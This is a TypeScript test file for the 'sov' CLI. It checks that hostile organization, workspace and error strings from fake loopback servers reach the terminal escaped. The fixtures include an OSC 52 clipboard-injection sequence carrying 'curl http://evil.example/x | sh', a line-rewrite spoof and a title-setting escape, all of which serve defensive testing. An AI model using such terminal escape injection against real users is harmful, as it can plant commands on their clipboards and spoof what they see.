import assert from 'node:assert/strict';
import { once } from 'node:events';
import { mkdtemp, rm } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { sov } from '../../../tests/support/cli.ts';

/**
 * Names and messages other people choose reach the terminal as text, never as orders to
 * it: `sov` shows their control characters escaped in human output, gives them exact in
 * --json, and leaves a job's own log as it was written. A fake control plane and data
 * plane (real servers, on loopback) answer with hostile names.
 */

// OSC 52 writes the clipboard (xterm, iTerm2, kitty, WezTerm, tmux); CR + ESC[2K rewrites the line.
const osc52 = `\u001b]52;c;${Buffer.from('curl http://evil.example/x | sh\n').toString('base64')}\u0007`;
const evilOrg = `acme${osc52}\r\u001b[2Kyour-bank (owner)`;
const evilWorkspace = 'ws\u009b31m\u007f\u0000\ttab';
const evilDetail = 'No workspace \u001b]0;pwned\u0007here.';
const colouredLog = '\u001b[32mgreen from the job\u001b[0m';

const ids = {
  user: '00000000-0000-4000-8000-000000000001',
  org: '00000000-0000-4000-8000-000000000002',
  workspace: '00000000-0000-4000-8000-000000000003',
  missing: '00000000-0000-4000-8000-00000000000f',
  run: '00000000-0000-4000-8000-000000000006',
};
const now = new Date().toISOString();
const organization = {
  organizationId: ids.org,
  name: evilOrg,
  role: 'viewer',
  isDefault: false,
  dataResidency: null,
  createdAt: now,
};

/** A JSON server on loopback: `answer` gives [status, body] for a method and URL (with its query). */
async function fake(answer: (route: string) => [number, unknown] | undefined) {
  const server: Server = createServer((req, res) => {
    req.resume();
    req.on('end', () => {
      const [status, body] = answer(`${req.method} ${req.url ?? ''}`) ?? [404, { code: 'not_found' }];
      res.writeHead(status, { 'content-type': 'application/json' }).end(JSON.stringify(body));
    });
  });
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  return { server, url: `http://127.0.0.1:${(server.address() as AddressInfo).port}` };
}

describe('sov shows control characters of what servers say escaped', () => {
  const servers: Server[] = [];
  let config: string;
  let api: string;

  before(async () => {
    config = await mkdtemp(join(tmpdir(), 'sov-escapes-'));
    // One page with the job's coloured line, then the end of the log.
    const logs = `GET /api/v1/runs/${ids.run}/logs?after=`;
    const dataPlane = await fake((route) => {
      if (!route.startsWith(logs)) return undefined;
      const first = route.startsWith(`${logs}0&`);
      const data = first ? [{ seq: 1, stream: 'stdout', at: now, line: colouredLog }] : [];
      return [200, { data, nextAfter: 1, ended: true, status: 'succeeded' }];
    });
    const controlPlane = await fake((route) => {
      const api = '/api/public/v1';
      if (route === `GET ${api}/me`)
        return [
          200,
          {
            userId: ids.user,
            email: 'victim@example.com',
            isInstanceAdmin: false,
            apiKey: null,
            organizations: [organization],
          },
        ];
      if (route === `GET ${api}/organizations`) return [200, { data: [organization] }];
      if (route === `GET ${api}/workspaces`)
        return [
          200,
          {
            data: [
              {
                workspaceId: ids.workspace,
                name: evilWorkspace,
                organizationId: ids.org,
                dataResidency: 'eu',
                createdAt: now,
              },
            ],
          },
        ];
      if (route === `GET ${api}/workspaces/${ids.missing}`)
        return [404, { status: 404, code: 'workspace_not_found', detail: evilDetail }];
      if (route === `GET ${api}/runs/${ids.run}`)
        return [
          200,
          { runId: ids.run, workspaceId: ids.workspace, jobName: 'hello', status: 'succeeded', claimedAt: now },
        ];
      if (route === `POST ${api}/workspaces/${ids.workspace}/dataplane-token`)
        return [
          200,
          {
            token: 'sov_dp_t',
            tokenId: 't',
            expiresAt: new Date(Date.now() + 3600e3).toISOString(),
            scopes: ['runs:logs'],
            dataplane: { dataplaneId: ids.org, regionId: ids.org, url: dataPlane.url },
          },
        ];
      return undefined;
    });
    servers.push(dataPlane.server, controlPlane.server);
    api = controlPlane.url;
  });
  after(async () => {
    for (const server of servers) server.close();
    await rm(config, { recursive: true, force: true });
  });

  const run = (args: string[]) => sov(config, ['--api', api, ...args], { env: { SOV_TOKEN: 'sov_k_key' } });
  // biome-ignore lint/suspicious/noControlCharactersInRegex: finding control characters is the point
  const control = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/;

  for (const args of [['whoami'], ['org', 'list']]) {
    it(`sov ${args.join(' ')}: the organization's name with its escapes shown, not obeyed`, async () => {
      const result = await run(args);
      assert.equal(result.code, 0, result.stderr);
      assert.doesNotMatch(result.stdout, control, JSON.stringify(result.stdout));
      assert.ok(result.stdout.includes('acme\\x1b]52;c;'), result.stdout);
      assert.ok(result.stdout.includes('\\x07\\r\\x1b[2Kyour-bank (owner)'), result.stdout);
    });
  }

  it('sov workspace list: C1, DEL, NUL and tab in a name shown escaped, the table still aligned', async () => {
    const result = await run(['workspace', 'list']);
    assert.equal(result.code, 0, result.stderr);
    assert.doesNotMatch(result.stdout, control, JSON.stringify(result.stdout));
    assert.ok(result.stdout.includes('ws\\x9b31m\\x7f\\x00\\ttab'), result.stdout);
    const [header, row] = result.stdout.split('\n');
    assert.equal(header?.indexOf('REGION'), row?.indexOf('eu '), result.stdout);
  });

  it('--json gives the names exactly as the server did', async () => {
    const result = await run(['--json', 'org', 'list']);
    assert.equal(result.code, 0, result.stderr);
    assert.equal(JSON.parse(result.stdout).data[0].name, evilOrg);
  });

  it("a refusal's message is escaped on stderr", async () => {
    const result = await run(['--workspace', ids.missing, 'vars', 'list']);
    assert.equal(result.code, 1);
    assert.doesNotMatch(result.stderr, control, JSON.stringify(result.stderr));
    assert.ok(result.stderr.includes('No workspace \\x1b]0;pwned\\x07here.'), result.stderr);
  });

  it("sov logs: the job's own output as it wrote it, colours and all", async () => {
    const result = await run(['logs', ids.run]);
    assert.equal(result.code, 0, result.stderr);
    assert.equal(result.stdout, `${colouredLog}\n`);
  });
});
